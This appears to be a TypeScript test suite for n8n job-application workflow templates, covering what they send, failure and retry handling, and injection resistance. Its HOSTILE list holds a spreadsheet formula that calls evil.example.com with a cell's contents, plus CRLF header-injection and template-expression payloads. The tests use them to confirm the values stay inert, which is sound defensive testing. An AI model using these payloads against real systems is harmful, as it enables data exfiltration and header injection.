import { isEqual, partition, sortBy, uniq, uniqWith } from 'lodash';
import { readTemplate } from '../../../tools/n8n/client/template.cts';
import { connect } from '../../../tools/n8n/client/workflow.cts';
import { goodApplication } from '../../../tools/samples/exampleApplication.cts';
import { TRY_IT } from '../../../tools/templates/description.cts';
import { DESCRIPTIONS } from '../../../tools/templates/readDescriptions.cts';
import { listFiles, shapeOf, withoutFiles, type Sent } from '../../helpers/sent.cts';
import {
	FIXTURES,
	lineOf,
	startTemplateTests,
	type TemplateTests,
} from '../../helpers/templateFixtures.cts';

// For each template with a fixture, tests what it sends, and what happens if an HTTP request fails.

let tests: TemplateTests;
beforeAll(async () => {
	tests = await startTemplateTests();
});

const { attachments: [resume, letter] = [] } = goodApplication();

/** Sorts what was sent, because some nodes send items at the same time, and replaces the URLs of forms, which vary. */
const inOrder = (sent: readonly Sent[]) => {
	const text = JSON.stringify(sent).replace(
		/http:\/\/localhost:\d+\/form-waiting\/[^\\"]+/g,
		'<form>',
	);
	return sortBy(JSON.parse(text) as Sent[], 'request', (one) => listFiles(one).join());
};

/** Returns a member for each field that an expression reads from `$json` or a step sets, in any template. */
function makeMembers(value: unknown): object {
	const found = JSON.stringify(DESCRIPTIONS).matchAll(/\$json\.(\w+)|"name":"(\w+)"/g);
	return Object.fromEntries([...found].map(([, read, set]) => [String(read ?? set), value]));
}

/** Returns an application with these values in all documented fields except `id`, `contentType`, and `content`. */
function fillFields(value: unknown, email: unknown): object {
	const names = ['civility', 'firstName', 'lastName', 'phoneNumber'];
	const location = { raw: value, city: value, zipCode: value, country: value };
	return {
		jobId: value,
		origin: value,
		candidate: { ...Object.fromEntries(names.map((name) => [name, value])), email, location },
		attachments: [resume, letter].map((file) => ({ ...file, type: value, fileName: value })),
	};
}

/** Values that could become a formula, a path, a header, code, or an expression, or that are too long or no text. */
const HOSTILE = [
	'=HYPERLINK("http://evil.example.com/?"&A1)\'/../..\\',
	'a\r\nX-Injected: 1\r\n\r\n{{ 7*191 }} ={{ 7*191 }} ${7*191}\u2028',
	'..',
	'字'.repeat(200),
	{ toString: 1, valueOf: 1 },
];

/** This address contains an expression, but is valid, so templates use it. */
const EMAIL = "={{7*191}}'/`${7*191}`@example.com";

const WHY = 'the service says why';
const STATUSES = [401, 409, 422, 429, 500, undefined];
const usesHttpRequest = (file: string) =>
	Object.values(DESCRIPTIONS[file]?.steps ?? {}).some(({ type }) => type === 'httpRequest');
/** The HTTP Request node treats a status alike for all vendors, so only the first template with it gets every status. */
const first = Object.keys(FIXTURES).find(usesHttpRequest);

describe.each(Object.entries(FIXTURES))('%s', (file, { sends, ...fixture }) => {
	let workflow: Awaited<ReturnType<TemplateTests['publish']>>;
	beforeAll(async () => {
		workflow = await tests.publish(file);
	});

	const expectedFor = (id: number, expected = sends) =>
		JSON.parse(JSON.stringify(expected).replaceAll('4711', String(id))) as Sent[];

	it.each([
		['the documented fields and files', 4711, {}, sends],
		['no files', 4613, { attachments: [] }, fixture.sendsWithoutFiles ?? withoutFiles(sends)],
	])('sends %s, whatever other members are sent', async (_title, id, members, expected) => {
		const others = id === 4711 ? 'mallory' : [{ applicationId: 'mallory', id: 'mallory' }];
		const usual = { ...makeMembers(others), ...goodApplication(fixture.application) };
		const { sent, requests } = await workflow.send({ ...usual, ...members, id });
		expect(inOrder(sent)).toEqual(inOrder(expectedFor(id, expected)));
		for (const request of requests) {
			const hasKey = !fixture.withoutKey?.includes(lineOf(request));
			expect(request.headers).toMatchObject((hasKey && fixture.headers) || {});
		}
	});

	it('sends all documented files of an application with two CVs', async () => {
		const { sent } = await workflow.send({ attachments: [resume, letter, resume] });
		const contents = listFiles(sent).map((name) => name.split(': ').at(-1));
		expect(contents.sort()).toEqual(fixture.files ?? ['letter', 'resume', 'resume']);
	});

	it('sends the same, or what the fixture says, if an application arrives again with a change', async () => {
		const first = await workflow.send({ id: 4614 });
		const again = await workflow.send({ id: 4614, x: 1 });
		expect(inOrder(again.sent)).toEqual(
			inOrder(expectedFor(4614, fixture.sendsAgain ?? first.sent)),
		);
	});

	it.each([EMAIL, undefined])('sends hostile values as text (email: %s)', async (email) => {
		const job = fixture.job && { jobId: fixture.job };
		const usual = await workflow.send({ ...fillFields('usual', email ?? 'usual'), ...job });
		if (email) expect(usual.sent).not.toEqual([]);
		// If the address is hostile too, the first two values suffice, because templates use no invalid address.
		for (const value of email ? HOSTILE : HOSTILE.slice(0, 2)) {
			const members = { ...fillFields(value, email ?? value), ...job };
			const { sent, requests } = await workflow.send(members);
			// A template may leave out a value that isn't text.
			const expected = shapeOf(typeof value === 'string' ? usual.sent : sent);
			expect([value, shapeOf(sent)]).toEqual([value, expected]);
			const headers = requests.map((request) => Object.keys(request.headers));
			expect(headers).toEqual(usual.requests.map((request) => Object.keys(request.headers)));
			// Signs of an evaluated value, of an injected line, or of a missing value
			expect(JSON.stringify(sent)).not.toMatch(/1337|\\[rn]X-Inj|[\u2028\u0085]|undefined|\[obj/);
			const cells = sent.filter(({ request }) => /\/workbook\//.test(String(request)));
			expect(JSON.stringify(cells)).not.toMatch(/"[=+@-]/);
		}
	});

	it('sends the files, or fails with a message, if a step drops them', async () => {
		if (isEqual(withoutFiles(sends), sends)) return;
		const { nodes } = await tests.n8n.session.readWorkflow(workflow.workflowId);
		const { connections } = await readTemplate(file);
		const id = await tests.n8n.session.createWorkflow({
			name: `Files are dropped: ${file}`,
			nodes: [...nodes, DROPPING],
			connections: {
				...connections,
				...connect('Application', DROPPING.name),
				[DROPPING.name]: connections.Application,
			},
		});
		const { status, error } = await tests.n8n.session.runManually(id, TRY_IT);
		const { sent } = await tests.takeSent();
		if (status === 'error') expect(error).toMatch(/file/i);
		else expect(listFiles(sent)).toEqual(listFiles(sends));
	});

	const lineOfSent = ({ request }: Sent) => String(request).split('?')[0] ?? '';
	const lines = sends.map(lineOfSent);
	const kinds = uniq(lines.filter((line) => /^[A-Z]/.test(line)));
	const isRepeatable = (line: string) =>
		!line.startsWith('POST') || fixture.repeatable?.includes(line) === true;
	const withoutRepeats = (sent: readonly Sent[]) =>
		uniqWith(sent, (one, other) => isRepeatable(lineOfSent(one)) && isEqual(one, other));

	const refusal = JSON.stringify(fixture.refusal ?? { message: 'WHY' });
	const body = JSON.parse(refusal.replaceAll('WHY', WHY)) as unknown;
	const getsAll = file === first || !usesHttpRequest(file);
	for (const kind of kinds) {
		const usual = uniq([422, fixture.refusedWith ?? 422]);
		const statuses = getsAll && kind === kinds.at(-1) ? STATUSES : usual;
		it.each(statuses)(
			`fails with the reason if the answer to ${kind} is %s, and a retry repeats only what is repeatable`,
			async (status) => {
				const headers = { 'retry-after': '1' };
				const reply = status === undefined ? undefined : { status, headers, body };
				const id = (nextId += 1);
				const line = kind.replaceAll('4711', String(id));
				const failed = await workflow.send({ id }, { line, reply });
				expect(failed.status).toBe('error');
				const words = reply ? `${WHY}|reconnect the credentials` : 'onnection';
				expect(`${failed.error} ${failed.description}`).toMatch(new RegExp(words));
				const [refused, accepted] = partition(failed.sent, (one) => lineOfSent(one) === line);
				const items = lines.filter((line) => line === kind).length;
				expect(refused.length).toBeLessThanOrEqual(isRepeatable(kind) ? 3 * items : 1);

				const retried = await workflow.retry(failed.id);
				expect(retried.status).toBe('success');
				const all = withoutRepeats([...accepted, ...retried.sent]);
				expect(inOrder(all)).toEqual(inOrder(withoutRepeats(expectedFor(id))));
			},
		);
	}
});

let nextId = 5000;

/** A step whose output has no files. */
const DROPPING = { name: 'Look-up', type: 'n8n-nodes-base.set', typeVersion: 3.4 };
